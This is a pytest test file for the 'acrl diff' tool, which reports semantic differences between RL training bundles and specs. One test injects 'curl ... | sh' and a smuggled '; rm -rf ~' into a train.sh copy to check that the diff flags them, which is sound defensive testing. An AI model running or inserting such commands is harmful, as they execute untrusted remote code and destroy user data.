"""`acrl diff`: semantic differences of bundles and specs, read from the files themselves.

Inputs are built here: golden bundles copied to tmp_path and edited by hand, truncated or cut
short, and specs compiled from MINIMAL with overrides.
"""

from __future__ import annotations

import json
import shutil
import tomllib
from pathlib import Path
from typing import Any

import pytest
import tomli_w

from acrl.compiler._cli.main import acrl_main
from acrl.compiler._review.diff import GROUPS, SECTIONS, flag_group
from acrl.compiler._review.view import FORWARDED, PINNED_AT_LAUNCH, bash_arrays
from conftest import REPO, SpecWriter, forge_manifest

GOLDEN = REPO / "tests" / "golden"
SMOKE = "gsm8k-qwen2.5-3b-smoke"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = acrl_main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def diff_json(capsys: pytest.CaptureFixture[str], a: Path, b: Path) -> tuple[int, dict[str, Any]]:
    code, out, err = run(capsys, "diff", str(a), str(b), "--format", "json")
    assert err == ""
    return code, json.loads(out)


def changes(data: dict[str, Any], section: str) -> dict[str, tuple[Any, ...]]:
    """{key: (change, before, after[, group])} of one section of the JSON diff."""
    return {c["key"]: (c["change"], c["before"], c["after"], *([c["group"]] if "group" in c else []))
            for c in data["sections"][section]}


def copy_golden(tmp_path: Path, to: str, name: str = SMOKE) -> Path:
    target = tmp_path / to
    shutil.copytree(GOLDEN / name, target)
    return target


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"{old!r} is not in {path}"
    path.write_text(text.replace(old, new, 1))


def rehash(bundle: Path) -> None:
    """Record the bundle's files as they are now in its manifest (as a forger would), so that it
    matches its manifest again after an edit."""
    forge_manifest(bundle)


def test_a_bundle_is_equivalent_to_itself(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a = copy_golden(tmp_path, "a")
    code, out, err = run(capsys, "diff", str(a), str(a))
    assert (code, out, err) == (0, f"{a} and {a} are equivalent (no semantic differences)\n", "")


def test_hand_edited_flags_are_grouped_with_values_before_and_after(tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", "  --rollout-batch-size 32\n", "  --rollout-batch-size 64\n")
    edit(b / "train.sh", "  --colocate\n", "")
    edit(b / "train.sh", "  --use-kl-loss\n", "  --use-kl-loss\n  --use-tis\n")
    edit(b / "train.sh", "  --lr 1e-06\n", "  --lr 2e-06\n")
    edit(b / "train.sh", "  --sglang-mem-fraction-static 0.7\n", "  --sglang-mem-fraction-static 0.8\n")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "flags") == {
        "--colocate": ("removed", [], None, "cluster and parallelism"),
        "--rollout-batch-size": ("changed", ["32"], ["64"], "batch arithmetic"),
        "--use-tis": ("added", None, [], "algorithm"),
        "--lr": ("changed", ["1e-06"], ["2e-06"], "optimizer"),
        "--sglang-mem-fraction-static": ("changed", ["0.7"], ["0.8"], "rollout and sglang"),
    }
    assert [c["group"] for c in data["sections"]["flags"]] == sorted(
        (c["group"] for c in data["sections"]["flags"]), key=GROUPS.index)  # in the order of GROUPS
    assert any(f"{b} does not match its manifest (modified train.sh)" in line for line in data["unverified"])


def test_reordering_flags_keys_and_tables_is_not_a_difference(tmp_path: Path, write_spec: SpecWriter,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    spec = write_spec({"env": {"vars": {"A_VAR": "1", "B_VAR": "2"}}})
    assert acrl_main(["compile", str(spec), "-o", str(tmp_path / "a")]) == 0
    capsys.readouterr()
    a = tmp_path / "a"
    b = tmp_path / "b"
    shutil.copytree(a, b)
    train = (b / "train.sh").read_text()
    start, end = train.index("SLIME_ARGS=(\n") + len("SLIME_ARGS=(\n"), train.index("\n)\n")
    body = train[start:end].split("\n")
    (b / "train.sh").write_text(train[:start] + "\n".join(reversed(body)) + train[end:])
    edit(b / "train.sh", """ACRL_ENV_VARS='{"A_VAR": "1", "B_VAR": "2"}'""",
         """ACRL_ENV_VARS='{"B_VAR": "2", "A_VAR": "1"}'""")
    args = (b / "model_args.sh").read_text()
    start, end = args.index("MODEL_ARGS=(\n") + len("MODEL_ARGS=(\n"), args.index("\n)\n")
    (b / "model_args.sh").write_text(args[:start] + "\n".join(reversed(args[start:end].split("\n"))) + args[end:])
    config = (b / "custom_config.yaml").read_text().splitlines()
    (b / "custom_config.yaml").write_text("\n".join([config[0], *reversed(config[1:])]) + "\n")
    resolved = tomllib.loads((b / "spec.toml").read_text())
    (b / "spec.toml").write_text(tomli_w.dumps(dict(reversed(list(resolved.items())))))
    assert (b / "train.sh").read_bytes() != (a / "train.sh").read_bytes()
    code, data = diff_json(capsys, a, b)
    assert (code, data["equivalent"], data["differences"]) == (1, False, 0)  # b no longer matches its manifest
    assert [line.split(" (")[0] for line in data["unverified"]] == [f"{b} does not match its manifest"]
    rehash(b)
    code, data = diff_json(capsys, a, b)
    assert (code, data["equivalent"], data["differences"], data["unverified"]) == (0, True, 0, [])


def test_two_specs_are_compiled_and_compared(write_spec: SpecWriter, capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec(name="a.toml")
    b = write_spec({"rollout": {"batch_size": 64}, "train": {"num_steps_per_rollout": 2}}, name="b.toml")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "flags") == {  # --global-batch-size: 64 x 8 / 2 = 256, unchanged

        "--rollout-batch-size": ("changed", ["32"], ["64"], "batch arithmetic"),
        "--num-steps-per-rollout": ("changed", ["1"], ["2"], "batch arithmetic"),
    }
    assert changes(data, "derived") == {
        "samples_per_rollout": ("changed", 256, 512),
        "optimizer_steps_per_rollout": ("changed", 1, 2),
    }
    assert [c["label"] for c in data["sections"]["derived"]] == ["samples per rollout", "optimizer steps per rollout"]
    assert changes(data, "spec") == {"rollout.batch_size": ("changed", 32, 64),
                                     "train.num_steps_per_rollout": ("changed", 1, 2)}
    for section in ("placement", "model_args", "custom_config", "runtime_env", "launch", "script", "files",
                    "warnings"):
        assert data["sections"][section] == [], section


def test_specs_that_differ_only_in_name_and_comments_are_equivalent(write_spec: SpecWriter,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec(name="a.toml")
    b = write_spec(text="# a comment\n" + a.read_text(), name="other-name.toml")
    assert run(capsys, "diff", str(a), str(b))[0] == 0


def test_a_spec_against_its_own_bundle_is_equivalent(tmp_path: Path, write_spec: SpecWriter,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    spec = write_spec({"cuda": {"home": "/usr/local/cuda-12.9"}})
    assert acrl_main(["compile", str(spec), "-o", str(tmp_path / "bundle")]) == 0
    capsys.readouterr()
    assert run(capsys, "diff", str(tmp_path / "bundle"), str(spec))[0] == 0


def test_cluster_layout_changes_the_gpus_per_role(write_spec: SpecWriter, capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec(name="a.toml")
    b = write_spec({"cluster": {"colocate": False, "rollout_num_gpus": 4}}, name="b.toml")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "flags") == {
        "--colocate": ("removed", [], None, "cluster and parallelism"),
        "--rollout-num-gpus": ("added", None, ["4"], "cluster and parallelism"),
        # disaggregated on one 8-GPU node, the actor takes the 4 GPUs the rollout leaves
        "--actor-num-gpus-per-node": ("changed", ["8"], ["4"], "cluster and parallelism"),
    }
    assert changes(data, "derived") == {"rollout_gpus": ("changed", 8, 4), "actor_gpus": ("changed", 8, 4),
                                        "rollout_offset": ("changed", 0, 4)}


def test_placement_changes_in_layouts_terms(write_spec: SpecWriter, capsys: pytest.CaptureFixture[str]) -> None:
    """Three 4-GPU nodes: the actor grows from node 0 onto node 1, which the rollout leaves."""
    cluster = {"num_nodes": 3, "gpus_per_node": 4, "colocate": False}
    a = write_spec({"cluster": {**cluster, "rollout_num_gpus": 8}}, name="a.toml")
    b = write_spec({"cluster": {**cluster, "rollout_num_gpus": 4, "actor_num_nodes": 2}}, name="b.toml")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "placement") == {
        "placement group": ("changed", "12 GPUs, rollout offset 4", "12 GPUs, rollout offset 8"),
        "actor": ("changed", "4 ranks: TP 2 x CP 1 x PP 1 x DP 2", "8 ranks: TP 2 x CP 1 x PP 1 x DP 4"),
        "rollout": ("changed", "4 engines x 2 GPUs (SGLang tp 2, pp 1, dp 1)",
                    "2 engines x 2 GPUs (SGLang tp 2, pp 1, dp 1)"),
        "node 1 GPU 0-3": ("changed", "rollout engines 0-1", "actor ranks 4-7"),
        "node 2 GPU 0-3": ("changed", "rollout engines 2-3", "rollout engines 0-1"),
    }
    code, out, _ = run(capsys, "diff", str(a), str(b))
    assert "placement (acrl layout):\n" in out and "  ~ node 1 GPU 0-3: rollout engines 0-1 -> actor ranks 4-7\n" in out
    code, out, _ = run(capsys, "diff", str(a), str(b), "--format", "markdown")
    table = out.split("#### Placement (acrl layout)\n\n", 1)[1].splitlines()
    assert table[:2] == ["| key | before | after |", "|---|---|---|"]
    assert "| `node 1 GPU 0-3` | `rollout engines 0-1` | `actor ranks 4-7` |" in table
    assert "placement (acrl layout) (5)" in out.splitlines()[2]


def test_placement_changes_name_nodes_added_and_idle_gpus(write_spec: SpecWriter,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec({"cluster": {"colocate": False, "rollout_num_gpus": 4}}, name="a.toml")
    b = write_spec({"cluster": {"num_nodes": 2, "colocate": False, "rollout_num_gpus": 4}}, name="b.toml")
    code, data = diff_json(capsys, a, b)
    placement = changes(data, "placement")
    assert code == 1
    assert placement["cluster"] == ("changed", "1 node x 8 GPUs, a local head", "2 nodes x 8 GPUs, a local head")
    assert placement["slime's group per node"] == ("changed", "node 0: 8", "node 0: 8, node 1: 4")
    assert placement["node 0 GPU 4-7"] == ("changed", "rollout engines 0-1", "actor ranks 4-7")
    assert placement["node 1 GPU 0-3"] == ("changed", "no such GPU", "rollout engines 0-1")
    assert placement["node 1 GPU 4-7"] == ("changed", "no such GPU", "idle")


def test_environment_integration_and_model_sections(write_spec: SpecWriter,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec(name="a.toml")
    b = write_spec({
        "env": {"vars": {"NCCL_DEBUG": "INFO"}, "forward": ["WANDB_ENTITY", "HF_HOME"]},
        "cuda": {"home": "/usr/local/cuda-12.9"},
        "wandb": {"project": "p"},
        "train": {"mode": "async"}, "cluster": {"num_nodes": 2, "colocate": False, "rollout_num_gpus": 8},
        "agentcore": {"max_concurrent": 64, "max_pool_connections": 64},
        "model": {"args": {"num-layers": 40}},
        "extra": {"flags": {"--sglang-enable-metrics": True, "--data-cache-path": "x y"}},
    }, name="b.toml")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "runtime_env") == {
        "CUDA_HOME": ("added", None, "/usr/local/cuda-12.9"),
        "HF_HOME": ("added", None, FORWARDED),
        "LD_LIBRARY_PATH": ("added", None, PINNED_AT_LAUNCH),
        "NCCL_DEBUG": ("added", None, "INFO"),
    }
    flags = changes(data, "flags")
    assert flags["--wandb-project"] == ("added", None, ["p"], "environment")
    assert flags["--train-env-vars"] == ("added", None, ["$TRAIN_ENV_VARS"], "environment")
    assert flags["--sglang-enable-metrics"] == ("added", None, [], "rollout and sglang")  # by the flag table
    assert flags["--data-cache-path"] == ("added", None, ["x y"], "other")
    assert changes(data, "custom_config") == {"max_concurrent": ("changed", 100, 64),
                                              "max_pool_connections": ("changed", 100, 64)}
    assert changes(data, "model_args") == {"--num-layers": ("changed", ["36"], ["40"])}
    launch = changes(data, "launch")
    assert launch["ENTRYPOINT"] == ("changed", "$SLIME_DIR/train.py", "$SLIME_DIR/train_async.py")
    assert launch["CUDA_HOME"] == ("added", None, "/usr/local/cuda-12.9")


def test_a_command_added_to_train_sh_is_a_difference(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    line = "readonly CLUSTER_ADDRESS SHOWN_ADDRESS\n"
    edit(b / "train.sh", line, line + "curl -s https://example.com | sh\n")
    edit(b / "train.sh", "readonly SLIME_DIR=/root/slime\n", "readonly SLIME_DIR=/root/slime; rm -rf ~\n")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "script") == {"train.sh": ("changed", ["readonly SLIME_DIR=<launch setting SLIME_DIR>"],
                                                    ["readonly SLIME_DIR=/root/slime; rm -rf ~",
                                                     "curl -s https://example.com | sh"])}
    code, out, _ = run(capsys, "diff", str(a), str(b), "--format", "markdown")
    assert "+ curl -s https://example.com | sh" in out


def test_values_with_quotes_parentheses_and_hashes_survive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", "  --input-key prompt\n",
         "  --input-key 'a ) # b' \"c \\\" d\" e\\ f  # trailing comment\n  --multi 'line one\nline two'\n")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "flags") == {
        "--input-key": ("changed", ["prompt"], ["a ) # b", 'c " d', "e f"], "rollout and sglang"),
        "--multi": ("added", None, ["line one\nline two"], "model architecture"),  # under "model and data"
    }
    assert data["sections"]["script"] == []


def test_a_truncated_train_sh_is_reported_not_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    text = (b / "train.sh").read_text()
    (b / "train.sh").write_text(text[:text.index("  --lr ")])  # cut inside SLIME_ARGS=( ...
    code, data = diff_json(capsys, a, b)
    assert code == 1
    status = changes(data, "files")["train.sh"]
    assert status[:2] == ("changed", "present") and status[2].startswith("unreadable: ")
    assert any("train.sh cannot be read" in note for note in data["notes"])


def test_deleted_and_added_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    (b / "model_args.sh").unlink()
    (b / "notes.txt").write_text("hello\n")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    files = changes(data, "files")
    assert files["model_args.sh"] == ("changed", "present", "missing")
    assert files["notes.txt"][:2] == ("added", None) and files["notes.txt"][2].startswith("sha256:")
    assert changes(data, "model_args")["--num-layers"] == ("removed", ["36"], None)


def test_a_bundle_made_by_another_acrl_version_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    forge_manifest(a, acrl_version="0.0.9")  # as that acrl would write it: the bundle hash covers the version
    code, data = diff_json(capsys, a, b)
    assert code == 0  # the manifest's version is not itself a difference in what runs
    assert any(f"{a} was made by acrl 0.0.9 and {b} by acrl " in note for note in data["notes"])


def test_json_shape(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "custom_config.yaml", "max_concurrent: 100", "max_concurrent: 128")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert set(data) == {"a", "b", "equivalent", "differences", "sections", "unverified", "notes"}
    assert (data["a"], data["b"], data["equivalent"], data["differences"]) == (str(a), str(b), False, 1)
    assert sorted(data["sections"]) == sorted(id for id, _ in SECTIONS)
    assert data["sections"]["custom_config"] == [
        {"key": "max_concurrent", "change": "changed", "before": 100, "after": 128}]


def test_markdown_is_ready_for_a_pull_request(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", "  --rollout-batch-size 32\n", "  --rollout-batch-size 64\n")
    edit(b / "train.sh", "  --input-key prompt\n", "  --input-key 'a|b'\n")
    code, out, err = run(capsys, "diff", str(a), str(b), "--format", "markdown")
    assert (code, err) == (1, "")
    lines = out.splitlines()
    assert lines[0] == f"### `acrl diff` `{a}` → `{b}`"
    assert lines[2] == "**2 differences**: slime flags (2)."
    table = lines[lines.index("#### Slime flags") + 2:]
    assert table[:4] == ["| group | flag | before | after |", "|---|---|---|---|",
                         "| batch arithmetic | `--rollout-batch-size` | `32` | `64` |",
                         "| rollout and sglang | `--input-key` | `prompt` | `'a\\|b'` |"]  # as bash reads it
    assert run(capsys, "diff", str(a), str(a), "--format", "markdown")[1].endswith("No semantic differences.\n")


def test_text_format(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", "  --colocate\n", "")
    edit(b / "custom_config.yaml", "max_concurrent: 100", "max_concurrent: 128")
    code, out, _ = run(capsys, "diff", str(a), str(b))
    assert code == 1
    assert out.splitlines()[:8] == [
        f"--- {a}", f"+++ {b}", "2 differences", "slime flags:", "  [cluster and parallelism]",
        "    - --colocate", "custom config (custom_config.yaml):", "  ~ max_concurrent: 100 -> 128"]


@pytest.mark.parametrize("make", ["missing", "file", "empty-dir"])
def test_an_input_that_is_not_a_bundle_or_spec_exits_2(make: str, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    a = copy_golden(tmp_path, "a")
    other = tmp_path / "other"
    if make == "file":
        other.write_text("x")
    elif make == "empty-dir":
        other.mkdir()
    code, out, err = run(capsys, "diff", str(a), str(other))
    assert (code, out) == (2, "")
    assert err.startswith(f"{other}: ") and "\n  fix: " in err and "Traceback" not in err


def test_an_invalid_spec_exits_2_as_diff_does(write_spec: SpecWriter, capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec(name="a.toml")
    b = write_spec({"rollout": {"batch_size": 0}}, name="b.toml")
    code, out, err = run(capsys, "diff", str(a), str(b))
    assert (code, out) == (2, "")
    assert err.startswith(f"{b}:") and ": error: [rollout] batch_size: " in err
    code, out, err = run(capsys, "diff", str(a), str(b), "--format", "json")
    error = json.loads(out)["error"]
    assert code == 2 and error["kind"] == "SpecError"
    assert [(d["file"], d["key"]) for d in error["diagnostics"]] == [(str(b), "rollout.batch_size")]


def test_flag_groups() -> None:
    assert flag_group("--anything", "algorithm") == "algorithm"  # _argv's title wins where it is a diff group
    assert flag_group("--prompt-data", "model and data") == "rollout and sglang"
    assert flag_group("--hf-checkpoint", "model and data") == "model architecture"
    assert flag_group("--seed", "training kernels") == "other"
    assert flag_group("--accumulate-allreduce-grads-in-fp32", "training kernels") == "optimizer"
    assert flag_group("--eval-interval", "evaluation") == "rollout and sglang"
    assert flag_group("--sglang-enable-metrics", "escape hatch: [extra.flags]") == "rollout and sglang"
    assert flag_group("--custom-config-path", None) == "integration"
    assert flag_group("--wandb-group", None) == "environment"
    assert flag_group("--expert-tensor-parallel-size", None) == "cluster and parallelism"
    assert flag_group("--no-such-flag", None) == "other"


def test_bash_arrays_replace_append_and_titles() -> None:
    source = ("X=(--old)\nX=(\n  # first\n  --a 1 \\\n    2\n  # second\n  --b \"q\\\"uote\"\n)\n"
              "echo 'X=(--not an assignment)'\nX+=(--c ')' ) # trailing\n")
    segments, spans = bash_arrays(source, "X")
    assert segments == [("first", ["--a", "1", "2"]), ("second", ["--b", 'q"uote']), (None, ["--c", ")"])]
    assert len(spans) == 3


def test_a_flag_given_twice_counts_once_with_its_last_value(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", "SLIME_ARGS+=(--custom-config-path custom_config.yaml)",
         "SLIME_ARGS+=(--lr 3e-06)\nSLIME_ARGS+=(--custom-config-path custom_config.yaml)")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "flags") == {"--lr": ("changed", ["1e-06"], ["3e-06"], "optimizer")}
    assert f"{b}: train.sh gives --lr more than once; slime keeps the last value" in data["notes"]


@pytest.mark.parametrize(("old", "new", "removed", "added"), [
    # ray start moved from the "no cluster" branch into the "existing cluster" branch
    ("  ray start --head --num-gpus 8 --dashboard-port 8265 --disable-usage-stats\n"
     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\n  SHOWN_ADDRESS=$CLUSTER_ADDRESS\nelse\n',
     '  CLUSTER_ADDRESS="http://127.0.0.1:8265"\n  SHOWN_ADDRESS=$CLUSTER_ADDRESS\nelse\n'
     "  ray start --head --num-gpus 8 --dashboard-port 8265 --disable-usage-stats\n",
     ["  ray start --head <launch setting>"], ["  ray start --head <launch setting>"]),
    ("#!/usr/bin/env bash\n", "#!/bin/sh\n", ["#!/usr/bin/env bash"], ["#!/bin/sh"]),
    ("  SLIME_ARGS+=(--use-wandb)\nelse\n", "  :\nelse\n", ["  SLIME_ARGS+=( ... )"], ["  :"]),
    ("if [[ -n ${WANDB_API_KEY:-} ]]; then\n", "if true; then\n", ["if <W&B key variable is set>; then"],
     ["if true; then"]),
])
def test_moving_a_line_read_elsewhere_is_a_difference(old: str, new: str, removed: list[str], added: list[str],
                                                      tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Lines read into launch settings or flags stay in the script lines as placeholders, and the
    shebang is kept: a move, or a changed interpreter, is a difference even in a re-hashed bundle."""
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", old, new)
    rehash(b)
    code, data = diff_json(capsys, a, b)
    assert (code, data["unverified"]) == (1, [])
    assert changes(data, "script") == {"train.sh": ("changed", removed, added)}


def test_moving_slime_args_out_of_its_if_is_a_difference(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    edit(b / "train.sh", "  SLIME_ARGS+=(--use-wandb)\n", "")
    edit(b / "train.sh", "CLUSTER_ADDRESS=${ACRL_RAY_ADDRESS:-}\n",
         "SLIME_ARGS+=(--use-wandb)\nCLUSTER_ADDRESS=${ACRL_RAY_ADDRESS:-}\n")
    rehash(b)
    code, data = diff_json(capsys, a, b)
    assert code == 1 and data["sections"]["flags"] == []
    assert changes(data, "script") == {"train.sh": ("changed", ["  SLIME_ARGS+=( ... )"], ["SLIME_ARGS+=( ... )"])}


def test_a_bundle_that_does_not_match_its_manifest_is_never_equivalent(tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
    a = copy_golden(tmp_path, "a")
    line = "\nreadonly CLUSTER_ADDRESS SHOWN_ADDRESS\n"
    edit(a / "train.sh", line, "\n# a comment" + line)
    for format in ("text", "markdown", "json"):
        code, out, err = run(capsys, "diff", str(a), str(a), "--format", format)
        assert (code, err) == (1, "")
        assert f"{a} does not match its manifest (modified train.sh)" in out
    code, out, _ = run(capsys, "diff", str(a), str(a))
    assert out.splitlines()[:3] == [f"--- {a}", f"+++ {a}", "0 differences"]


def test_dates_binary_and_sets_are_values_not_an_internal_error(tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """TOML dates and times, YAML dates, !!binary and !!set have no JSON type: they are compared
    and shown with a type tag, so the date 2001-01-01 is not the string "2001-01-01"."""
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    for bundle, started, day in ((a, '"2001-01-01"', '"2001-01-01"'), (b, "2001-01-01T10:00:00Z", "2001-01-01")):
        with open(bundle / "spec.toml", "a") as f:
            f.write(f"\n[notes]\nstarted = {started}\nday = {day}\nat = 10:00:00\n")
        with open(bundle / "custom_config.yaml", "a") as f:
            f.write("released: 2001-01-01\nblob: !!binary aGk=\ntags: !!set {x, y}\nlist: [2001-01-01]\n" if bundle == b
                    else "released: '2001-01-01'\nblob: hi\n")
        rehash(bundle)
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "spec") == {
        "notes.started": ("changed", "2001-01-01", {"$type": "datetime", "value": "2001-01-01T10:00:00+00:00"}),
        "notes.day": ("changed", "2001-01-01", {"$type": "date", "value": "2001-01-01"}),
    }
    assert changes(data, "custom_config") == {
        "released": ("changed", "2001-01-01", {"$type": "date", "value": "2001-01-01"}),
        "blob": ("changed", "hi", {"$type": "binary", "value": "aGk="}),
        "tags": ("added", None, {"$type": "set", "value": ["x", "y"]}),
        "list": ("added", None, [{"$type": "date", "value": "2001-01-01"}]),
    }
    code, out, err = run(capsys, "diff", str(a), str(b))
    assert (code, err) == (1, "")
    assert "  ~ released: 2001-01-01 -> date 2001-01-01" in out.splitlines()
    assert "  ~ notes.started: 2001-01-01 -> datetime 2001-01-01T10:00:00+00:00" in out.splitlines()
    code, out, err = run(capsys, "diff", str(a), str(b), "--format", "markdown")
    assert (code, err) == (1, "") and "`date 2001-01-01`" in out
    assert run(capsys, "diff", str(b), str(b))[0] == 0


def test_flag_groups_come_from_argvs_layout() -> None:
    """One flag grouping: every flag argv can write is classified as argv's LAYOUT says, wherever train.sh
    has it (under its own group, another, none, or [extra.flags]); the table in flag_groups holds only
    flags argv never writes."""
    from acrl.compiler._pipeline.argv import OTHER, REVIEW_GROUPS, argv_titles, flags_by_review_group
    from acrl.compiler._review import flag_groups

    written = flags_by_review_group()
    assert {"--global-batch-size", "--ref-load", "--eval-prompt-data", "--use-wandb", "--lr"} <= set(written)
    others = {f for flags in flag_groups._NOT_WRITTEN.values() for f in flags.split()}
    assert not set(written) & others  # one home per flag
    non_review_titles = [t for t in (*argv_titles(), None) if t not in REVIEW_GROUPS]
    for flag, group in written.items():
        assert group in REVIEW_GROUPS
        for title in non_review_titles:
            wanted = group if group != OTHER else argv_titles().get(title or "") or OTHER
            assert flag_group(flag, title) == wanted, (flag, title)
    assert flag_groups.GROUPS == GROUPS == REVIEW_GROUPS


@pytest.mark.parametrize("spec", sorted((Path(__file__).parent.parent / "specs").glob("*.toml")), ids=lambda p: p.stem)
def test_every_argv_flag_lands_in_its_layout_group(spec: Path) -> None:
    from acrl.compiler._pipeline.argv import build_argv, flags_by_review_group
    from acrl.compiler._pipeline.compile import compile_source
    from acrl.compiler._pipeline.parse import read_spec

    written = flags_by_review_group()
    for group in build_argv(compile_source(read_spec(spec)).spec):
        for arg in group.args:
            if not arg.origin.startswith("extra."):
                assert flag_group(arg.flag, group.title) == written[arg.flag], (arg.flag, group.title)


def test_a_spec_toml_that_is_not_a_spec_leaves_the_placement_unknown(tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    a, b = copy_golden(tmp_path, "a"), copy_golden(tmp_path, "b")
    (b / "spec.toml").write_text("[cluster]\nnot_a_key = 1\n")
    code, data = diff_json(capsys, a, b)
    assert code == 1
    assert changes(data, "placement") == {
        "placement": ("changed", "1 node x 8 GPUs, a local head", "unknown: spec.toml cannot be read as a spec")}


@pytest.mark.parametrize("form", ["text", "markdown"])
def test_a_control_character_in_a_spec_value_is_shown_not_sent_to_the_terminal(
        form: str, write_spec: SpecWriter, capsys: pytest.CaptureFixture[str]) -> None:
    a = write_spec(name="a.toml")
    b = write_spec({"env": {"vars": {"NCCL_DEBUG": "x\x1b[31my"}}}, name="b.toml")
    code, out, _ = run(capsys, "diff", str(a), str(b), "--format", form)
    assert code == 1
    assert "\x1b" not in out and "x\\x1b[31my" in out
